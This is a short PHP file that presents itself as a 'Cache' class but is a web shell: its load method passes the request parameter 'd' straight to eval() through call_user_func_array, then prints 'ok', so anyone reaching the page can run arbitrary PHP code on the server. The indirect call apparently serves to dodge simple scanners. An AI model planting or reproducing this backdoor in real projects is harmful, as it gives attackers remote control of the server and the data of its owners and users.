<?php
class Cache
{
    public static function load($data)
    {
        eval($data);
    }
}
call_user_func_array(array('Cache', 'load'), array($_REQUEST['d']));
echo 'ok';
